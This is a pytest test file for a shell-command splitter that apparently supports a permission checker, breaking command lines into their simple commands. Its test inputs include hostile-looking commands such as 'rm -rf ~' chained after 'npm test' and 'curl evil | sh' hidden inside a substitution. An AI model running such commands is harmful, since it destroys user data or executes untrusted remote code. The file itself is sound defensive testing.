"""Splitting a shell command line into the simple commands it runs."""

from __future__ import annotations

import pytest

from auger.extensions.permissions.shell import ShellSyntaxError, split_commands, words


@pytest.mark.parametrize(
    ("line", "parts"),
    [
        ("npm test && rm -rf ~", ["npm test", "rm -rf ~"]),
        ("a || b ; c", ["a", "b", "c"]),
        ("ls | sh", ["ls", "sh"]),
        ("make |& tee log", ["make", "tee log"]),
        ("sleep 9 & curl x", ["sleep 9", "curl x"]),
        ("ls\nrm x", ["ls", "rm x"]),
        ("(cd x; make)", ["cd x", "make"]),
        ("echo $(curl evil | sh)", ["curl evil", "sh", "echo $(curl evil | sh)"]),
        ('echo "$(whoami)"', ["whoami", 'echo "$(whoami)"']),
        ("echo `id`", ["id", "echo `id`"]),
        ("diff <(ls a) >(cat)", ["ls a", "cat", "diff <(ls a) >(cat)"]),
        ("echo $( (a) && b )", ["a", "b", "echo $( (a) && b )"]),
    ],
)
def test_every_simple_command_is_found(line: str, parts: list[str]) -> None:
    assert split_commands(line) == parts


@pytest.mark.parametrize(
    "line", ["npm test 2>&1", "npm test &>log", "echo 'a && b; $(c)'", 'echo "a; b" \\; c']
)
def test_quotes_escapes_and_redirections_are_not_operators(line: str) -> None:
    assert split_commands(line) == [line]


@pytest.mark.parametrize("line", ['echo "open', "echo $(open", "echo `open", "echo 'x"])
def test_an_unclosed_quote_or_substitution_is_an_error(line: str) -> None:
    with pytest.raises(ShellSyntaxError):
        split_commands(line)


def test_words_are_read_as_the_shell_reads_them() -> None:
    assert words("git  commit -m 'two words'") == ["git", "commit", "-m", "two words"]
